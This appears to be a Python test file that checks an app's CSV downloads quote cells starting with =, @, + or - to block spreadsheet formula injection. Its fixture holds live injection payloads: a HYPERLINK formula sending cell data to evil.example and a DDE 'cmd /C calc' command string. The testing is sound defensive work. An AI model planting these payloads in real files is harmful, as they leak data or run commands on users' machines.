"""AppTest for issue 16 (safe exports): the RAPID page's per-record CSV download.

Data whose column names and category values start with ``=``, ``@``, ``+`` or ``-`` is
loaded into a session; the CSV behind the page's download button must carry them with a
leading quote (no spreadsheet formula), and the numeric columns' negative numbers must
stay numbers.
"""

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from downloads import download, download_by_key
from small_demo import no_autorun  # noqa: F401 (a fixture)
from streamlit.testing.v1 import AppTest

from privacy_core.exports import FORMULA_PREFIXES
from ui.workspace import Table, Workspace

APP = str(Path(__file__).resolve().parents[2] / "app.py")
# column names and categories a spreadsheet would run as formulas
GROUP, SCORE, SECRET = "@group", "-score", "=secret"
GROUPS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
SECRETS = ["=1+1", "@ill", "healthy"]


def starts_formula(cell: str) -> bool:
    """Would a spreadsheet run this CSV cell as a formula? (A number such as -0.5 is
    read as a number.)"""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_PREFIXES)


def hostile_workspace(n: int = 160, seed: int = 0) -> Workspace:
    """A small table whose names and categories start formulas; the release is a copy of
    it, so that RAPID puts records at risk and the per-record table is not empty."""
    rng = np.random.default_rng(seed)
    group = rng.choice(GROUPS, size=n)
    # the secret follows the group: an attacker on the copy recovers it
    secret = np.where(np.isin(group, GROUPS[:2]), SECRETS[0], SECRETS[1])
    secret = np.where(rng.random(n) < 0.1, SECRETS[2], secret)
    real = pd.DataFrame(
        {
            GROUP: group,
            SCORE: np.round(rng.normal(-1, 1, n), 3),
            "age": rng.integers(20, 80, n),
            SECRET: secret,
        }
    )
    base = Workspace(
        real=Table.make("hostile.csv", real, "upload"),
        releases=(),
        holdout=None,
        quasi_identifiers=(GROUP, SCORE, "age"),
        sensitive=(SECRET,),
        dataset="upload",
    )
    release = Table.make(
        "copy", real.sample(frac=1.0, random_state=seed, ignore_index=True), "generated"
    )
    fast = {"attackers": ("logit",), "n_trees": 50, "bootstrap": 0, "subset": 0, "seed": 0}
    return Workspace(**{**base.__dict__, "releases": (release,)}).with_settings(rapid_fit=fast)


def test_rapid_per_record_download_neutralises_formulas():
    at = AppTest.from_file(APP, default_timeout=120)
    at.session_state["workspace"] = hostile_workspace()
    at.run()
    at.switch_page("pages/rapid.py").run()
    assert not at.exception, at.exception
    at.session_state["rapid_records"] = True  # the per-record section, closed by default
    at.run()
    at.checkbox(key="rapid_allow_download").check().run()
    assert not at.exception, at.exception
    text = download(at, "Download per-record table (CSV)").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert body, "RAPID put no record at risk: the download is empty"
    # names and categories come back quoted; no cell starts a formula
    assert {f"'{GROUP}", f"'{SCORE}"} <= set(header)
    assert not [c for row in rows for c in row if starts_formula(c)]
    column = {name: [row[i] for row in body] for i, name in enumerate(header)}
    assert set(column[f"'{GROUP}"]) <= {"'" + g for g in GROUPS}
    assert set(column["true"]) | set(column["prediction"]) <= {
        "'" + SECRETS[0],
        "'" + SECRETS[1],
        SECRETS[2],
    }
    # the negative scores are still numbers (a numeric column is never quoted)
    score = pd.to_numeric(pd.Series(column[f"'{SCORE}"]))
    assert (score < 0).any()


@pytest.mark.usefixtures("no_autorun")  # the Data page's download, not a result
def test_generated_release_download_neutralises_formulas():
    at = AppTest.from_file(APP, default_timeout=120)
    at.session_state["workspace"] = hostile_workspace()
    at.run()
    at.switch_page("pages/data.py").run()
    assert not at.exception, at.exception
    text = download_by_key(at, "dl_rel_0").decode("utf-8")
    release = pd.read_csv(io.StringIO(text))
    assert list(release.columns) == [f"'{GROUP}", f"'{SCORE}", "age", f"'{SECRET}"]
    assert set(release[f"'{GROUP}"]) == {"'" + g for g in GROUPS}
    # read back, the numbers are numbers, the negative ones included
    assert release[f"'{SCORE}"].dtype == float and (release[f"'{SCORE}"] < 0).any()
